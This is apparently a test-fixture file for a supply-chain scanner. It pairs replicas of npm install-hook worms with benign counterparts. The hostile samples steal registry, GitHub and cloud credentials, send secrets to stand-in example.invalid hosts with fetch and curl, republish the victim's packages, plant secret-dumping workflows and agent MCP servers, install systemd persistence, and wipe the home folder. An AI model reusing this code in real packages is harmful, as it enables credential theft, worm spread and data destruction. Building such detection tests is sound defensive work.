"""What spreads by itself: packages of whoever installed it published anew, workflows planted, secrets in repositories."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

WORMS = (
    Attack("Shai-Hulud: a bundle that looks for secrets, publishes and plants a workflow", "WORM-001", "install", {
        "package.json": '"scripts": {"postinstall": "node bundle.js"}',
        "bundle.js": """
            const { execSync } = require("child_process");
            const fs = require("fs"), os = require("os"), path = require("path");
            async function npmToken() {
              return (fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").match(/_authToken=(.+)/) || [])[1];
            }
            async function secrets() {
              execSync("curl -sL https://example.invalid/trufflehog.tar.gz -o /tmp/trufflehog.tar.gz && tar -xzf /tmp/trufflehog.tar.gz -C /tmp && chmod +x /tmp/trufflehog");
              return execSync("/tmp/trufflehog filesystem " + os.homedir() + " --json").toString();
            }
            async function spread(token) {
              const who = await (await fetch("https://registry.example.invalid/-/whoami", { headers: { Authorization: "Bearer " + token } })).json();
              const found = await (await fetch("https://registry.example.invalid/-/v1/search?text=maintainer:" + who.username)).json();
              for (const { package: one } of found.objects.slice(0, 20)) {
                const folder = fs.mkdtempSync(path.join(os.tmpdir(), "npm-"));
                execSync(`npm pack ${one.name} && tar -xzf *.tgz`, { cwd: folder });
                const manifest = JSON.parse(fs.readFileSync(path.join(folder, "package/package.json"), "utf8"));
                manifest.scripts = { ...manifest.scripts, postinstall: "node bundle.js" };
                manifest.version = manifest.version.replace(/\\d+$/, (last) => Number(last) + 1);
                fs.writeFileSync(path.join(folder, "package/package.json"), JSON.stringify(manifest));
                fs.copyFileSync(__filename, path.join(folder, "package/bundle.js"));
                execSync("npm publish", { cwd: path.join(folder, "package"), env: { ...process.env, NPM_TOKEN: token } });
              }
            }
            (async () => {
              const token = await npmToken();
              const body = JSON.stringify({ env: process.env, found: await secrets() });
              await fetch("https://api.example.invalid/user/repos", { method: "POST", headers: { Authorization: "token " + process.env.GITHUB_TOKEN }, body: JSON.stringify({ name: "Shai-Hulud", description: body }) });
              fs.mkdirSync(".github/workflows", { recursive: true });
              fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml", "on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \\"$CONTENTS\\" https://hook.example.invalid/made-up\\n");
              execSync("git add . && git commit -m update && git push");
              if (token) await spread(token);
            })();
        """,
    }, {
        "bundle.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            const folder = fs.mkdtempSync(path.join(os.tmpdir(), "npm-"));
            const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));
            manifest.version = manifest.version.replace(/\\d+$/, (last) => Number(last) + 1);
            fs.writeFileSync(path.join(folder, "package.json"), JSON.stringify(manifest));
            fs.copyFileSync(path.join(__dirname, "bundle.js"), path.join(folder, "bundle.js"));
        """,
    }),
    Attack("tinycolor: tokens of the registry tried, and every package of their owner published", "WORM-001", "install", {
        "package.json": '"scripts": {"postinstall": "node bundle.js"}',
        "bundle.js": """
            var e = require("child_process"), t = require("fs"), n = require("os").homedir();
            class NpmModule {
              constructor() { this.token = (t.readFileSync(n + "/.npmrc", "utf8").match(/_authToken=(.*)/) || [])[1]; }
              async validate() { return (await fetch("https://registry.example.invalid/-/whoami", { headers: { Authorization: `Bearer ${this.token}` } })).ok; }
              async update(folder) { e.execSync("npm publish --access public", { cwd: folder }); }
            }
            (async () => { const r = new NpmModule(); if (await r.validate()) await r.update(process.cwd()); })();
        """,
    }, {
        "bundle.js": """
            var t = require("fs");
            class NpmModule {
              constructor() { this.name = JSON.parse(t.readFileSync(__dirname + "/package.json", "utf8")).name; }
              async validate() { return this.name.length > 0; }
            }
            (async () => { const r = new NpmModule(); if (await r.validate()) console.log("thank you"); })();
        """,
    }),
    Attack("the successor of Shai-Hulud: another runtime is fetched, and given the program", "FETCH-001", "install", {
        "package.json": '"scripts": {"preinstall": "node setup_bun.js"}',
        "setup_bun.js": """
            #!/usr/bin/env node
            const { spawn, execSync } = require("child_process");
            const path = require("path"), fs = require("fs"), os = require("os");
            function installed() { try { execSync("bun --version", { stdio: "ignore" }); return "bun"; } catch { return null; } }
            async function install() {
              const command = process.platform === "win32"
                ? 'powershell -c "irm https://bun.example.invalid/install.ps1|iex"'
                : "curl -fsSL https://bun.example.invalid/install | bash";
              execSync(command, { stdio: "ignore", env: { ...process.env } });
              return path.join(os.homedir(), ".bun", "bin", "bun");
            }
            (async () => {
              const bun = installed() || (await install());
              const program = path.join(__dirname, "bun_environment.js");
              if (fs.existsSync(program)) spawn(bun, [program], { detached: true, stdio: "ignore" }).unref();
            })();
        """,
        "bun_environment.js": "console.log('made up');",
    }, {
        "setup_bun.js": """
            #!/usr/bin/env node
            const { execSync } = require("child_process");
            function installed() { try { execSync("bun --version", { stdio: "ignore" }); return "bun"; } catch { return null; } }
            if (!installed()) console.error("demo needs bun, see https://bun.example.invalid/");
        """,
    }),
    Attack("the successor of Shai-Hulud: a runner of its own, and secrets of every store", "WORM-001", "install", {
        "package.json": '"scripts": {"preinstall": "node bun_environment.js"}',
        "bun_environment.js": """
            const { execSync } = require("child_process");
            const fs = require("fs"), os = require("os"), path = require("path");
            const home = os.homedir();
            const token = process.env.GITHUB_TOKEN || execSync("gh auth token").toString().trim();
            const npm = (fs.readFileSync(path.join(home, ".npmrc"), "utf8").match(/_authToken=(.*)/) || [])[1];
            const stores = [".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json"]
              .map((name) => { try { return fs.readFileSync(path.join(home, name), "utf8"); } catch { return ""; } });
            const api = (where, body, method = "POST") => fetch("https://api.example.invalid" + where, { method, headers: { Authorization: `Bearer ${token}` }, body: JSON.stringify(body) });
            (async () => {
              const name = Math.random().toString(36).slice(2);
              await api("/user/repos", { name, description: "The Second Coming", private: false });
              await api(`/repos/me/${name}/contents/cloud.json`, { content: Buffer.from(JSON.stringify(stores)).toString("base64") }, "PUT");
              await api(`/repos/me/${name}/contents/environment.json`, { content: Buffer.from(JSON.stringify(process.env)).toString("base64") }, "PUT");
              execSync(`mkdir -p $HOME/.dev-env && curl -o runner.tar.gz -L https://example.invalid/actions-runner-linux-x64.tar.gz && tar xzf runner.tar.gz -C $HOME/.dev-env && cd $HOME/.dev-env && ./config.sh --url https://forge.example.invalid/me/${name} --unattended --name SHA1HULUD && nohup ./run.sh &`);
              for (const one of process.argv.slice(2)) execSync(`npm publish ${one}`, { env: { ...process.env, NPM_CONFIG_TOKEN: npm } });
            })();
        """,
    }, {
        "bun_environment.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            const stores = ["a.json", "b.json"].map((name) => { try { return fs.readFileSync(path.join(__dirname, name), "utf8"); } catch { return ""; } });
            console.log(Buffer.from(JSON.stringify(stores)).toString("base64").length, os.EOL);
        """,
    }),
    Attack("the successor of Shai-Hulud: a home is wiped if no token was found", "WIPE-001", "install", {
        "package.json": '"scripts": {"preinstall": "node bun_environment.js"}',
        "bun_environment.js": """
            const { execSync, spawnSync } = require("child_process");
            const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
            if (!token) {
              if (process.platform === "win32") spawnSync("cmd.exe", ["/c", 'del /F /Q /S "%USERPROFILE%*" && for /d %i in ("%USERPROFILE%*") do rd /S /Q "%i" & cipher /W:%USERPROFILE%']);
              else execSync('find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1 && find "$HOME" -depth -type d -empty -delete');
            }
        """,
    }, {
        "bun_environment.js": """
            const { execSync } = require("child_process");
            const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
            if (!token) execSync('find dist -type f -name "*.map" -delete');
        """,
    }),
    Attack("a workflow planted by an interface of a forge, for the secrets of a repository", "WORM-001", "install", {
        "package.json": '"scripts": {"postinstall": "node plant.js"}',
        "plant.js": """
            const { Octokit } = require("@octokit/rest");
            const github = new Octokit({ auth: process.env.GITHUB_TOKEN });
            const text = "on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo '${{ toJSON(secrets) }}' | base64 > secrets.txt\\n";
            (async () => {
              const { data } = await github.repos.listForAuthenticatedUser({ affiliation: "owner,collaborator" });
              for (const { owner, name } of data)
                await github.repos.createOrUpdateFileContents({ owner: owner.login, repo: name, path: ".github/workflows/formatter.yml", message: "format", content: Buffer.from(text).toString("base64") });
            })();
        """,
    }, {
        "plant.js": """
            const text = "demo is set up\\n";
            (async () => { console.log(Buffer.from(text).toString("base64")); })();
        """,
    }),
    Attack("SANDWORM: tokens of the registry, git's template folder and the servers of agents", "PERSIST-001", "install", {
        "package.json": '"scripts": {"postinstall": "node setup.js"}',
        "setup.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            const { execSync } = require("child_process");
            const home = os.homedir();
            const hooks = path.join(home, ".git-templates", ".git/hooks");
            fs.mkdirSync(hooks, { recursive: true });
            fs.writeFileSync(path.join(hooks, "pre-commit"), "#!/bin/sh\\nnpx --yes demo\\n", { mode: 0o755 });
            execSync("git config --global init.templateDir " + path.join(home, ".git-templates"));
            for (const file of [".claude/settings.json", ".cursor/mcp.json"]) {
              const at = path.join(home, file);
              const settings = JSON.parse(fs.readFileSync(at, "utf8"));
              settings.mcpServers = { ...settings.mcpServers, dev: { command: "node", args: [path.join(home, ".dev-utils/server.js")] } };
              fs.writeFileSync(at, JSON.stringify(settings));
            }
            execSync("npm publish", { cwd: process.env.INIT_CWD });
        """,
    }, {
        "setup.js": """
            const fs = require("fs"), path = require("path");
            const settings = JSON.parse(fs.readFileSync(path.join(__dirname, "settings.json"), "utf8"));
            fs.writeFileSync(path.join(__dirname, "settings.json"), JSON.stringify({ ...settings, done: true }));
        """,
        "settings.json": "{}",
    }),
    Attack("CanisterWorm: a service that asks a canister for its next program", "PERSIST-001", "install", {
        "package.json": '"scripts": {"postinstall": "node index.js"}',
        "index.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            const { execSync } = require("child_process");
            const program = Buffer.from("«b64:import urllib.request, time, os, subprocess»", "base64").toString();
            const folder = path.join(os.homedir(), ".local/share/pgmon");
            fs.mkdirSync(folder, { recursive: true });
            fs.writeFileSync(path.join(folder, "service.py"), program);
            const unit = path.join(os.homedir(), ".config/systemd/user/pgmon.service");
            fs.writeFileSync(unit, "[Service]\\nExecStart=/usr/bin/python3 " + folder + "/service.py\\nRestart=always\\n");
            execSync("systemctl --user daemon-reload && systemctl --user enable --now pgmon.service");
        """,
    }, {
        "index.js": """
            const fs = require("fs"), path = require("path");
            const folder = path.join(__dirname, "share");
            fs.mkdirSync(folder, { recursive: true });
            fs.writeFileSync(path.join(folder, "service.txt"), Buffer.from("ZGVtbw==", "base64").toString());
        """,
    }),
)  # fmt: skip
